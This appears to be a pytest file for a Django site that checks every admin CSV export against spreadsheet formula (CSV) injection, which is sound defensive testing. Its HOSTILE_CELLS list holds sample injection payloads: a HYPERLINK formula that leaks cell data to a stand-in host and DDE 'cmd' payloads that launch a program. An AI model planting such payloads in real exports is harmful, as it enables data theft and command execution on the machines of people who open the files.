"""No CSV the site produces can start a spreadsheet formula (CSV injection, OWASP).

The class test runs every export the admin offers (every custom admin page and every admin
action of every registered ModelAdmin) as an administrator, over data whose cells start with
each formula trigger, and reads every cell. A new admin page or action is either an export (and
so checked) or listed below as not one, with the reason.
"""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib import admin
from django.urls import reverse
from django.utils import timezone

from forums.events.models import Question, Registration
from privacy import consent
from privacy.csv_export import FORMULA_TRIGGERS, csv_response
from privacy.models import Consent, DailyVisitCount, Lead
from privacy.sponsors import services as sponsors

from ..factories import (
    EventFactory,
    ResourceFactory,
    SponsorFactory,
    SponsorQuestionFactory,
    ticket,
)
from ..html_forms import forms_in

pytestmark = pytest.mark.django_db

# A cell starting with each trigger, the way an attacker would write it.
HOSTILE_CELLS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Custom admin pages that give no CSV, and why.
NOT_EXPORT_PAGES = {
    "privacy_newsletter_send": "confirms and queues a newsletter; sends email, gives no file",
    "privacy_resource_file": "the sponsor's own uploaded file, given back as uploaded",
    "privacy_datarequest_step": "a data request's next-step button: runs a list action (POST)",
    "events_invoice_pdf": "an issued invoice's PDF, as issued",
    "events_creditnote_pdf": "an issued credit note's PDF, as issued",
}
# Admin actions that give no CSV, and why.
NOT_EXPORT_ACTIONS = {
    "delete_selected": "Django's deletion, behind its confirmation page",
    "move_topics": "moderation",
    "topic_pin": "moderation",
    "topic_unpin": "moderation",
    "topic_lock": "moderation",
    "topic_unlock": "moderation",
    "topic_hide_topic": "moderation",
    "topic_unhide_topic": "moderation",
    "hide_posts": "moderation",
    "show_posts": "moderation",
    "hide_reported_posts": "moderation",
    "dismiss_reports": "moderation",
    "confirm_identity": "data request state change",
    "start": "data request state change",
    "wait_on_requester": "data request state change",
    "extend": "data request state change",
    "produce_export": "builds the member's ZIP export (JSON and HTML, no CSV)",
    "carry_out_erasure": "data request state change",
    "restrict": "data request state change",
    "lift_restriction": "data request state change",
    "complete": "data request state change",
    "refuse": "data request state change",
    "notify_authority": "breach register state change",
    "authority_not_required": "breach register state change",
    "people_must_be_told": "breach register state change",
    "people_need_not_be_told": "breach register state change",
    "send_notice": "breach register: queues the email to the people affected, gives no file",
    "make_verified": "allauth: marks email addresses verified",
    "enable_tasks": "django-celery-beat: schedules",
    "disable_tasks": "django-celery-beat: schedules",
    "toggle_tasks": "django-celery-beat: schedules",
    "run_tasks": "django-celery-beat: sends the selected periodic tasks to the broker now",
    "cancel_events": "events: cancels the events and emails everyone registered",
    "cancel_registrations": "events: cancels registrations and emails their people",
}
STANDARD_ADMIN_PAGES = ("_changelist", "_add", "_history", "_delete", "_change")


def hostile(n: int) -> str:
    return HOSTILE_CELLS[n % len(HOSTILE_CELLS)]


@pytest.fixture
def hostile_data(client):
    """A sponsor with a consenting lead and visit statistics, every text cell hostile."""
    sponsor = SponsorFactory(name=hostile(0))
    resource = ResourceFactory(sponsor=sponsor, title=hostile(1))
    question = SponsorQuestionFactory(resource=resource, text=hostile(2))
    lead = Lead.objects.create(
        resource=resource,
        name=hostile(3),
        company=hostile(4),
        job_title=hostile(5),
        phone="+44 20 7946 0000",  # a real phone number starts with a trigger too
        email="-lead+1@example.org",  # a valid address that starts with a trigger
        answers=[{"question": question.text, "answer": hostile(0)}],
    )
    # A lead goes to its sponsor only on the grant given with it.
    lead.consent = consent.record(
        email=lead.email,
        purpose=sponsors.purpose(sponsor),
        granted=True,
        source=Consent.Source.RESOURCE_FORM,
        text=sponsors.consent_text(sponsor),
    )
    lead.save(update_fields=["consent"])
    _hostile_attendees(sponsor)
    today = timezone.localdate()
    for n, cell in enumerate(HOSTILE_CELLS):
        for dimension in DailyVisitCount.Dimension.values:
            DailyVisitCount.objects.create(
                day=today - timedelta(days=n), dimension=dimension, value=cell, views=n + 1
            )


def _hostile_attendees(sponsor):
    """An event sponsored by the sponsor, with two attendees who let it have their details:
    between them every text cell of the attendee and sponsor exports is hostile."""
    event = EventFactory(title=hostile(0), sponsor=sponsor)
    question = Question.objects.create(event=event, text=hostile(1))
    for n, (name, company, job_title) in enumerate([(1, 2, 3), (4, 5, 0)]):
        email = f"-attendee{n}@example.org"
        choice = consent.record(
            email=email,
            purpose=sponsors.purpose(sponsor),
            granted=True,
            source=Consent.Source.EVENT_FORM,
            text=sponsors.consent_text(sponsor),
        )
        attendee = Registration.objects.create(
            event=event,
            ticket_type=ticket(event),
            name=hostile(name),
            email=email,
            company=hostile(company),
            job_title=hostile(job_title),
            needs=hostile(name),
            status=Registration.Status.CONFIRMED,
            sponsor_consent=choice,
        )
        attendee.answers.create(question=question, question_text=question.text, text=hostile(n))


def cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def is_csv(response) -> bool:
    return response.status_code == 200 and response["Content-Type"].startswith("text/csv")


def custom_admin_pages():
    """(url name, model) of every page a ModelAdmin adds to Django's own."""
    for model, model_admin in admin.site._registry.items():
        for pattern in model_admin.get_urls():
            name = pattern.name or ""
            if name and not name.endswith(STANDARD_ADMIN_PAGES):
                yield name, model, list(pattern.pattern.converters)


def run_page(client, name, model, params):
    """GET the page; when it is a form, send it as it stands."""
    row = model.objects.order_by("pk").first()
    assert row or not params, f"add a {model.__name__} to hostile_data to run {name}"
    url = reverse(f"admin:{name}", kwargs={param: row.pk for param in params})
    response = client.get(url)
    if is_csv(response):
        return response
    for form in forms_in(response.content.decode()):
        if form.method == "post" and form.action in ("", url):  # not the header's log-out form
            return client.post(url, form.defaults())
    return response


def run_actions(client):
    """Every action of every ModelAdmin over all its rows: (action name, response)."""
    for model, model_admin in admin.site._registry.items():
        changelist = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        pks = [str(pk) for pk in model.objects.values_list("pk", flat=True)]
        request = client.get(changelist).wsgi_request
        for action in model_admin.get_actions(request):
            if action in NOT_EXPORT_ACTIONS:
                continue
            data = {"action": action, "_selected_action": pks, "index": "0"}
            yield action, client.post(changelist, data)


def test_every_admin_csv_export_neutralises_formula_cells(staff_client, hostile_data):
    exports, unchecked = {}, []
    for name, model, params in custom_admin_pages():
        if name in NOT_EXPORT_PAGES:
            continue
        response = run_page(staff_client, name, model, params)
        (exports.__setitem__(name, response) if is_csv(response) else unchecked.append(name))
    for action, response in run_actions(staff_client):
        (exports.__setitem__(action, response) if is_csv(response) else unchecked.append(action))
    assert unchecked == [], "Not CSV exports? List them in NOT_EXPORT_PAGES/ACTIONS, saying why"
    assert {"privacy_dailyvisitcount_csv", "privacy_sponsor_export_leads"} <= set(exports)
    for name, response in exports.items():
        written = cells(response)
        dangerous = [cell for cell in written if cell.startswith(FORMULA_TRIGGERS)]
        assert dangerous == [], f"{name} writes cells a spreadsheet runs: {dangerous}"
        # Every trigger reached the export (as text), so the check above was not vacuous.
        missing = [t for t in FORMULA_TRIGGERS if not any(c.startswith("'" + t) for c in written)]
        assert missing == [], f"{name}: put hostile cells in the data it reads (hostile_data)"


def test_the_writer_keeps_numbers_and_harmless_text_as_they_are():
    rows = [["day", "views", "value"], ["2026-11-30", -3, "a=b"], [" =x", "", "'quoted"]]
    assert cells(csv_response(rows, "x.csv")) == [
        "day",
        "views",
        "value",
        "2026-11-30",
        "-3",
        "a=b",
        " =x",
        "",
        "'quoted",
    ]


def test_every_csv_goes_through_the_one_writer():
    """Only privacy/csv_export.py may use the csv module: anything else would bypass it."""
    writer = Path(settings.BASE_DIR) / "privacy" / "csv_export.py"
    uses_csv = re.compile(r"^\s*(import csv\b|from csv import)", re.MULTILINE)
    offenders = [
        str(path.relative_to(settings.BASE_DIR))
        for app in ("community", "forums", "privacy")
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py")
        if path != writer and uses_csv.search(path.read_text())
    ]
    assert offenders == []
